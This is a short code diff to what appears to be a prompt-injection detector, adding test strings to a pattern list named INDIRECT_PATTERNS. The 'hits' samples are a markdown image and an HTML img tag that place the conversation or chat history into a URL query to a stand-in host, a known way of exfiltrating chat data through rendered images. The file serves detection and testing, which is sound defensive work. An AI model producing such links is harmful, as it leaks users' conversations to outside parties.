@@ -97,7 +97,10 @@ export const INDIRECT_PATTERNS: readonly Pattern[] = [
       { word: 'http_word', after: '(' },
       { word: 'http_word', after: '"\'=\\' },
     ],
-    hits: ['![x](https://a.example/p?d={conversation})', '<img src="https://a.example/p?data=1">'],
+    hits: [
+      '![x](https://a.example/p?d={conversation})',
+      '<img src="https://a.example/p?data={{history}}">',
+    ],
     misses: ['![logo](https://a.example/logo.png)', '<img src="https://a.example/logo.png">'],
   },
   {
